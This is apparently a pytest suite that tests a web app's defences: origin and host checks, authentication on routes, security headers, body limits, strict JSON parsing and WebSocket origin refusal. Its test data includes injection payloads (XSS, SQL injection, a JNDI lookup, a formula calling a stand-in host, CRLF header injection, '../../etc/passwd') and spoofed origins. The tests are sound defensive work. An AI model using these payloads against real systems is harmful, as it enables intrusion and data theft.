"""Who gets in from where: foreign pages, made-up names, sockets from elsewhere, bodies without end, text that bites."""

from __future__ import annotations

from collections.abc import AsyncIterator

import httpx2
import msgspec
import pytest
from tests.doors.http_house import Client, Served, house, problem
from websockets.asyncio.client import connect
from websockets.exceptions import InvalidStatus

from cuga.api import page
from cuga.api.guard import MAX_BODY
from cuga.api.schema import describe
from cuga.api.serve import served
from cuga.errors import BadInput

FOREIGN = (
    "http://evil.example", "null", "http://127.0.0.1:8081", "https://127.0.0.1:8080", "http://127.0.0.1.evil.example",
    "http://evil.example/127.0.0.1:8080", "file://", "http://127.0.0.1:8080.evil.example", "http://user@127.0.0.1:9",
)  # fmt: skip
HOSTS = (
    "evil.example",
    "127.0.0.1",
    "127.0.0.1:9",
    "localhost.evil.example:8080",
    "[::ffff:127.0.0.1]:8080",
    "0.0.0.0:8080",
)


@pytest.fixture
async def team() -> AsyncIterator[Served]:
    async with house() as opened:
        yield opened


def unsafe_routes(team: Served) -> list[tuple[str, str]]:
    return [
        (verb, path.replace("{", "").replace("}", ""))
        for path, verbs in describe(team.app._app)["paths"].items()
        for verb in verbs
        if verb != "get"
    ]


@pytest.mark.parametrize("origin", FOREIGN)
async def test_no_route_does_anything_for_a_page_from_elsewhere(team, origin):
    eve = team.browser("eve")
    before = await team.front.acts()
    for verb, path in unsafe_routes(team):
        answer = await eve.http.request(verb.upper(), path, json={}, headers={"Origin": origin})
        assert problem(answer)["code"] == "foreign_origin", path
        assert "access-control-allow-origin" not in answer.headers
    assert await team.front.acts() == before


async def test_a_browser_that_does_not_say_where_it_comes_from_changes_nothing(team):
    eve = team.browser("eve")
    del eve.http.headers["Origin"]
    for verb, path in unsafe_routes(team):
        assert problem(await eve.http.request(verb.upper(), path, json={}))["code"] == "foreign_origin", path
    assert (await eve.get("/api/runs")).status_code == 200, "reading by navigation is harmless: nobody else can read it"
    assert problem(await eve.http.get("/api/runs", headers={"Origin": FOREIGN[0], "Sec-Fetch-Mode": "cors"}))


@pytest.mark.parametrize("host", HOSTS)
async def test_a_name_that_was_made_to_point_here_gets_nothing(team, host):
    eve = team.browser("eve")
    for path in ("/", "/api/me", "/healthz", "/metrics", "/api/openapi.json"):
        assert problem(await eve.http.get(path, headers={"Host": host}))["code"] == "foreign_origin"


async def test_a_program_needs_no_origin_and_a_stolen_key_in_a_foreign_page_is_no_use(team):
    program = await team.program("ann", "start_run", "look")
    assert (await program.post("/api/runs", {"goal": "x"})).status_code == 201
    told = await program.http.post("/api/runs", json={"goal": "x"}, headers={"Origin": FOREIGN[0]})
    assert problem(told)["code"] == "foreign_origin"


async def test_every_route_asks_who_it_is(team):
    open_to_all = {"/healthz", "/readyz", "/api/login/ways"}
    nobody = team.nobody()
    for path, verbs in describe(team.app._app)["paths"].items():
        for verb in verbs:
            if path in open_to_all or path.startswith(("/api/login", "/api/witness/")) or path == "/api/logout":
                continue
            url = path.replace("{table}", "accounts").replace("{", "").replace("}", "")
            answer = await nobody.http.request(verb.upper(), url, json={})
            assert problem(answer)["code"] in ("not_signed_in", "bad_input"), f"{verb} {path}: {answer.text}"
            if answer.status_code != 401:  # a body that does not fit is told before: it says nothing of the house
                assert answer.status_code == 422


async def test_every_answer_carries_what_keeps_a_page_safe(team):
    for path in ("/", "/api/me", "/healthz", "/nothing", "/api/nothing"):
        headers = (await team.browser("eve").get(path)).headers
        assert "default-src 'self'" in headers["content-security-policy"]
        assert "unsafe" not in headers["content-security-policy"]
        assert headers["x-content-type-options"] == "nosniff" and headers["referrer-policy"] == "no-referrer"
        assert "server" not in headers
    assert (await team.browser("eve").get("/api/me")).headers["cache-control"] == "no-store"


async def test_a_path_that_can_be_no_file_is_a_place_of_the_page(team, tmp_path, monkeypatch):
    (tmp_path / "index.html").write_text("the page")
    (tmp_path.parent / "beside").write_text("not of the page")
    monkeypatch.setattr(page, "built", lambda: tmp_path)
    for path in ("/", "/" + "x" * 300, "/%00", "/a%2Fb", "/index.html/x", "/..%2Fbeside"):
        answer = await team.nobody().http.get(path)
        assert (answer.status_code, answer.text) == (200, "the page"), path


@pytest.mark.parametrize("method", ["PUT", "PATCH", "DELETE", "OPTIONS", "TRACE"])
async def test_another_method_is_told_all_that_a_path_takes(team, method):
    answer = await team.browser("eve").http.request(method, "/api/runs")
    assert problem(answer)["code"] == "method_not_allowed"
    assert answer.headers["allow"] == "GET, POST"


async def test_a_body_without_end_is_refused_however_it_comes(team):
    ann = team.browser("ann")
    big = b'{"goal": "' + b"x" * MAX_BODY + b'"}'
    assert problem(await ann.http.post("/api/runs", content=big))["code"] == "too_large"

    async def drip() -> AsyncIterator[bytes]:
        for _ in range(40):
            yield b" " * (64 * 1024)

    answer = await ann.http.post("/api/runs", content=drip(), headers={"content-type": "application/json"})
    assert problem(answer)["code"] == "too_large"


@pytest.mark.parametrize(
    "body",
    [
        b'{"goal":"a","goal":"b"}', b'{"goal":NaN}', b'{"goal":1e999}', b'{"goal":"\\ud800"}', b"[" * 5000,
        b'{"goal":{"a":' * 300, b"\xff\xfe", b"", b"null", b"[]", b'"text"', b'{"goal":"x","unknown":1}',
        b'{"goal":["x"]}', b'{"goal":"x","budget":{"calls":12345678901234567890}}', b'{"goal":"x","as_of":"yesterday"}',
    ],
)  # fmt: skip
async def test_json_that_two_readers_could_read_differently_is_refused(team, body):
    answer = await team.browser("ann").http.post(
        "/api/runs", content=body, headers={"content-type": "application/json"}
    )
    assert problem(answer)["status"] == 422
    assert not await team.front.runs()


PAYLOADS = (
    "<img src=x onerror=alert(1)>", "</script><script>alert(1)</script>", "=HYPERLINK(\"http://evil\")", "@SUM(1)",
    "a\r\nSet-Cookie: x=1", "\x1b[2J\x1b]0;owned\x07", "\u202egnp.exe", "{{7*7}}", "${jndi:ldap://evil}",
    "../../etc/passwd",    "'; drop table runs; --", "%00", "\u200b\u2060", "ｆｕｌｌ＝ｗｉｄｔｈ", "a" * 4000,
)  # fmt: skip


@pytest.mark.parametrize("text", PAYLOADS, ids=lambda text: repr(text)[:24])
async def test_text_that_bites_is_data_wherever_it_goes(team, text):
    ann, bob = team.browser("ann"), team.browser("bob")
    run = await ann.run(("keep_text", {"text": text}))
    if run["status"] == "parked":
        card = await bob.card(run["run_id"])
        shown = (await bob.get(f"/api/approvals/{card['approval_id']}")).json()
        assert card["arguments"]["text"] == text
        assert all(one.isprintable() or one == "\n" for one in shown["readable"])
        yes = {"verdict": "approve", "digest": card["digest"], "reason": text[:200]}
        assert (await bob.post(f"/api/approvals/{card['approval_id']}", yes)).status_code == 200
        await team.front.wait(run["run_id"])
    for path in (f"/api/runs/{run['run_id']}", f"/api/traces/{run['run_id']}", "/api/audit"):
        answer = await ann.get(path)
        assert answer.headers["content-type"] == "application/json"
        assert not {"set-cookie", "location"} & answer.headers.keys()
    for path in ("/api/runs", "/api/audit", "/api/tools", "/api/crm/accounts"):
        assert (await ann.get(path, q=text[:190], user=text[:90])).status_code in (200, 422)
    for path in ("/api/runs/", "/api/traces/", "/api/approvals/", "/api/crm/accounts/", "/api/keys/"):
        from urllib.parse import quote

        answer = await ann.get(path + quote(text[:200], safe=""))
        assert answer.status_code in (404, 405, 422), path
    told = await ann.http.get("/api/me", headers={"X-Request-Id": "<b>a"})
    assert "<" not in told.headers["x-request-id"]


# --- sockets, on a real server ----------------------------------------------------------------------------------------
@pytest.fixture
async def live() -> AsyncIterator[tuple[Served, str]]:
    async with house() as opened, served(opened.front, port=0) as doors:
        opened.doors = doors
        yield opened, doors.address.url


def cookie(opened: Served, user: str) -> dict[str, str]:
    return {"Cookie": f"cuga_session={opened.doors.credentials.begin_session(user, 'password')}"}


async def test_a_socket_from_elsewhere_is_refused_before_it_is_accepted(live):
    opened, url = live
    run = await Client(opened.app, token=cookie(opened, "ann")["Cookie"].partition("=")[2]).run(("post", {"to": "x"}))
    for path in (f"/ws/traces/{run['run_id']}", "/ws/house"):
        socket = url.replace("http", "ws") + path
        for origin in (*FOREIGN, None):
            with pytest.raises(InvalidStatus) as refused:
                async with connect(socket, origin=origin, additional_headers=cookie(opened, "ann")):
                    pass
            assert refused.value.response.status_code == 403, origin
        with pytest.raises(InvalidStatus) as refused:
            async with connect(socket, origin=url):
                pass
        assert refused.value.response.status_code == 401
        assert msgspec.json.decode(refused.value.response.body)["code"] == "not_signed_in"
        with pytest.raises(InvalidStatus) as refused:
            async with connect(
                socket, origin=url, additional_headers={**cookie(opened, "ann"), "Host": "evil.example"}
            ):
                pass
        async with connect(socket, origin=url, additional_headers=cookie(opened, "vic")):
            pass


async def test_a_key_opens_a_socket_without_an_origin(live):
    opened, url = live
    made = await opened.front.make_key(("look",), by=await opened.front.principal("vic"))
    async with connect(
        url.replace("http", "ws") + "/ws/house", additional_headers={"Authorization": f"Bearer {made.text}"}
    ):
        pass
    with pytest.raises(InvalidStatus):
        async with connect(
            url.replace("http", "ws") + "/ws/house", additional_headers={"Authorization": "Bearer cuga_x"}
        ):
            pass


async def test_a_house_with_one_person_is_served_to_this_machine_only():
    async with house(several=False) as opened:
        for host, public in (("0.0.0.0", ""), ("127.0.0.1", "https://cuga.example.com")):
            with pytest.raises(BadInput, match="this machine only"):
                async with served(opened.front, host=host, port=0, public_url=public):
                    pass


async def test_a_team_is_reached_from_elsewhere_over_tls_only():
    async with house() as opened:
        with pytest.raises(BadInput, match="in the open"):
            async with served(opened.front, host="0.0.0.0", port=0):
                pass
        with pytest.raises(BadInput, match="not https"):
            async with served(opened.front, port=0, public_url="http://cuga.example.com"):
                pass
        async with served(opened.front, port=0, public_url="https://cuga.example.com") as doors:
            port = doors.port
            async with httpx2.AsyncClient(base_url=f"http://127.0.0.1:{port}") as http:
                assert (await http.get("/healthz")).status_code == 403
                named = {"Host": "cuga.example.com"}
                answer = await http.get("/healthz", headers=named)
                assert answer.status_code == 200 and "max-age" in answer.headers["strict-transport-security"]
                token = (await opened.front.login_link()).rpartition("/")[2]
                signed = await http.post(
                    "/api/login/link",
                    json={"token": token},
                    headers={**named, "Origin": "https://cuga.example.com"},
                )
                assert signed.status_code == 204 and "secure" in signed.headers["set-cookie"].lower()


async def test_a_port_that_somebody_has_is_told(live):
    opened, url = live
    with pytest.raises(BadInput, match="cannot be had"):
        async with served(opened.front, port=int(url.rpartition(":")[2])):
            pass
